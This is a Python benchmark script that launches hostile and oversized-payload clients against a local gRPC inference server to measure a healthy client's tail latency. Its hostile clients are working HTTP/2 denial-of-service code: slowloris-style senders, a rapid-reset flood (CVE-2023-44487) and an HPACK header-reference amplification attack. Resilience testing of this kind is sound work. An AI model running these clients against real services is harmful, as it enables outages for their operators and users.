"""A healthy client beside hostile or greedy ones.

Hostile: idle connections, slow senders, rapid resets, references to one large header. Greedy: pictures of 16 million
pixels, JSON of 20 MB.

    python -m benchmarks.ingress_hostile [--connections 10000] [--rounds 3] [--processes 0] [--only KIND...]

Reported is the p99 of a healthy client beside each kind, as a multiple of its quiet value in the same round; the bar is
1.5 beside hostile clients and 2 beside greedy ones. All are in processes of their own; hostile ones
write HTTP/2 frames.
"""

from __future__ import annotations

import argparse
import asyncio
import io
import json
import resource
import statistics
import struct
import subprocess
import sys
import time
from collections.abc import Sequence
from pathlib import Path

import grpc
from PIL import Image
from tritonclient.grpc import service_pb2

from benchmarks.conditions import conditions
from benchmarks.ingress_servers import Running, running

CLIENT = Path(__file__).resolve().parent / "ingress_client.py"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = struct.pack(">I", 0)[1:] + bytes([4, 0]) + struct.pack(">I", 0)
HEADERS, RST_STREAM = 1, 3
CANCEL = struct.pack(">I", 8)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return an HTTP/2 frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(path: bytes) -> bytes:
    """Return the header block of a gRPC call, all literals without indexing (RFC 7541, section 6.2.2)."""
    block = b""
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ):
        block += bytes([0, len(name)]) + name + bytes([len(value)]) + value
    return block


async def idle(host: str, port: int, count: int) -> None:
    """Open connections that say hello and nothing more, and hold them."""
    held = []
    for _ in range(count):
        reader, writer = await asyncio.open_connection(host, port)
        writer.write(PREFACE + SETTINGS)
        held.append((reader, writer))
    print("there", flush=True)
    await asyncio.sleep(3600)


async def slow(host: str, port: int, count: int) -> None:
    """Send the beginning of a call a byte at a time, ten a second, on each connection; connect again if closed."""
    call = PREFACE + SETTINGS + frame(HEADERS, 4, 1, headers(b"/inference.GRPCInferenceService/ModelInfer"))

    async def one() -> None:
        while True:
            reader, writer = await asyncio.open_connection(host, port)
            for at in range(len(call)):
                if reader.at_eof():
                    break
                writer.write(call[at : at + 1])
                await asyncio.sleep(0.1)
            await reader.read()  # until the server closes
            writer.close()

    many = [asyncio.create_task(one()) for _ in range(count)]
    await asyncio.sleep(1)
    print("there", flush=True)
    await asyncio.gather(*many, return_exceptions=True)


async def resets(host: str, port: int, rate: int) -> None:
    """Begin calls and reset them at once (CVE-2023-44487), `rate` a second, on connections that are opened again."""
    print("there", flush=True)
    call, stream = headers(b"/inference.GRPCInferenceService/ModelInfer"), 1
    writer: asyncio.StreamWriter | None = None
    while True:
        try:
            if writer is None:
                _, writer = await asyncio.open_connection(host, port)
                writer.write(PREFACE + SETTINGS)
                stream = 1
            burst = b""
            for _ in range(max(1, rate // 20)):
                burst += frame(HEADERS, 4, stream, call) + frame(RST_STREAM, 0, stream, CANCEL)
                stream += 2
            writer.write(burst)
            await writer.drain()
            await asyncio.sleep(0.05)
        except OSError:
            writer = None  # the server has had enough of this connection


HEADER_VALUE = b"a" * 3900
REFERENCE = b"\xbe"  # index 62: the newest entry of the dynamic table


def remembered() -> bytes:
    """Return a header that the server puts into its dynamic table (RFC 7541, section 6.2.1)."""
    left = len(HEADER_VALUE) - 127
    size = b"\x7f"
    while left >= 128:
        size, left = size + bytes([left % 128 + 128]), left // 128
    return b"\x40\x01x" + size + bytes([left]) + HEADER_VALUE


async def references(host: str, port: int, rate: int) -> None:
    """Begin `rate` calls a second whose headers are 16 000 references to one of 4 KB, a byte each; settings are not
    acknowledged, so that the server may not shrink its table."""
    print("there", flush=True)
    path = headers(b"/inference.GRPCInferenceService/ModelInfer")
    writer: asyncio.StreamWriter | None = None
    stream = 1
    while True:
        try:
            if writer is None:
                _, writer = await asyncio.open_connection(host, port)
                writer.write(PREFACE + SETTINGS + frame(HEADERS, 4, 1, path + remembered()))
                stream = 3
            burst = b""
            for _ in range(max(1, rate // 20)):
                burst += frame(HEADERS, 4, stream, path + 16_000 * REFERENCE) + frame(RST_STREAM, 0, stream, CANCEL)
                stream += 2
            writer.write(burst)
            await writer.drain()
            await asyncio.sleep(0.05)
        except OSError:
            writer = None


async def pictures(host: str, port: int, count: int) -> None:
    """Send pictures of 4000x4000 pixels, 46 KiB each, from `count` callers without a pause."""
    data = io.BytesIO()
    Image.new("RGB", (4000, 4000), "red").save(data, "PNG")
    await _greedy(host, port, count, "image", data.getvalue())


async def documents(host: str, port: int, count: int) -> None:
    """Send JSON of 20 MB from `count` callers without a pause."""
    await _greedy(host, port, count, "json", json.dumps([{"n": n, "t": "x" * 20} for n in range(500_000)]).encode())


async def _greedy(host: str, port: int, count: int, model: str, element: bytes) -> None:
    options = [(f"grpc.max_{way}_message_length", -1) for way in ("send", "receive")]
    async with grpc.aio.insecure_channel(f"{host}:{port}", options=options) as channel:
        call = channel.unary_unary(
            "/inference.GRPCInferenceService/ModelInfer",
            request_serializer=service_pb2.ModelInferRequest.SerializeToString,
            response_deserializer=None,
        )
        request = service_pb2.ModelInferRequest(model_name=model)
        request.inputs.add(name="x", datatype="BYTES", shape=[1])
        request.raw_input_contents.append(struct.pack("<I", len(element)) + element)

        async def one() -> None:
            while True:
                try:
                    await call(request)
                except grpc.aio.AioRpcError as error:
                    if error.code() not in (grpc.StatusCode.RESOURCE_EXHAUSTED, grpc.StatusCode.UNAVAILABLE):
                        raise
                    await asyncio.sleep(0.2)  # refused for now, as it should be

        many = [asyncio.create_task(one()) for _ in range(count)]
        await asyncio.sleep(1)
        print("there", flush=True)
        await asyncio.gather(*many)


HOSTILE = {"references": references, "idle": idle, "slow": slow, "resets": resets}
GREEDY = {"pictures": pictures, "documents": documents}


def healthy(server: Running, seconds: float) -> dict[str, float]:
    """Return the figures of one caller with 1 KB requests."""
    command = [sys.executable, str(CLIENT), server.url, "one", "1024", "--callers", "1", "--seconds", str(seconds)]
    found: dict[str, float] = json.loads(subprocess.run(command, stdout=subprocess.PIPE, text=True, check=True).stdout)
    return found


class Hostile:
    """Hostile clients of one kind in processes of their own, there when the with statement begins."""

    def __init__(self, kind: str, server: Running, amount: int, processes: int = 1) -> None:
        each = [amount // processes] * processes
        command = [sys.executable, "-m", "benchmarks.ingress_hostile", "--hostile", kind, server.url]
        self._processes = [
            subprocess.Popen([*command, str(count)], stdout=subprocess.PIPE, text=True) for count in each if count
        ]

    def __enter__(self) -> Hostile:
        for process in self._processes:
            if process.stdout is not None:
                process.stdout.readline()
        return self

    def __exit__(self, *ended: object) -> None:
        for process in self._processes:
            process.kill()
            process.wait()


def hostile(kind: str, url: str, amount: int) -> None:
    host, _, port = url.rpartition(":")
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    asyncio.run((HOSTILE | GREEDY)[kind](host, int(port), amount))


def beside(server: Running, only: Sequence[str], connections: int, rounds: int, seconds: float) -> None:
    """Print the healthy client's p99 beside each kind of hostile client."""
    every = (
        ("idle", connections, 2), ("slow", 200, 1), ("resets", 1000, 1), ("references", 200, 1),
        ("pictures", 40, 1), ("documents", 2, 1),
    )  # fmt: skip
    kinds = [one for one in every if one[0] in only]
    ratios: dict[str, list[tuple[float, float]]] = {kind: [] for kind, _, _ in kinds}
    for _ in range(rounds):
        for kind, amount, processes in kinds:
            quiet = healthy(server, seconds)
            with Hostile(kind, server, amount, processes):
                found = healthy(server, seconds)
            ratios[kind].append((found["p99_ms"] / quiet["p99_ms"], found["p50_ms"] / quiet["p50_ms"]))
            time.sleep(0.5)
    for kind, amount, _ in kinds:
        p99, p50 = ([pair[at] for pair in ratios[kind]] for at in (0, 1))
        print(
            f"  {kind:10} {amount:6}   p99 {statistics.median(p99):.2f}x quiet [{min(p99):.2f}-{max(p99):.2f}]"
            f"   p50 {statistics.median(p50):.2f}x",
            flush=True,
        )


def main(arguments: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--connections", type=int, default=10_000)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--seconds", type=float, default=4.0)
    parser.add_argument("--processes", type=int, default=0, help="ingress processes; 0: beside the engine")
    every = [*HOSTILE, *GREEDY]
    parser.add_argument("--only", nargs="+", choices=every, default=every, help="kinds of clients; all when left out")
    parser.add_argument("--hostile", nargs=3, metavar=("KIND", "URL", "AMOUNT"), help=argparse.SUPPRESS)
    options = parser.parse_args(arguments)
    if options.hostile:
        kind, url, amount = options.hostile
        hostile(kind, url, int(amount))
        return
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    connections = min(options.connections, hard // 2 - 500)
    print(conditions())
    name = f"weftline-{options.processes}+" if options.processes else "weftline+"
    with running([name]) as servers:
        print(f"{name.removesuffix('+')}: a healthy client beside")
        beside(servers[name], options.only, connections, options.rounds, options.seconds)


if __name__ == "__main__":
    main()
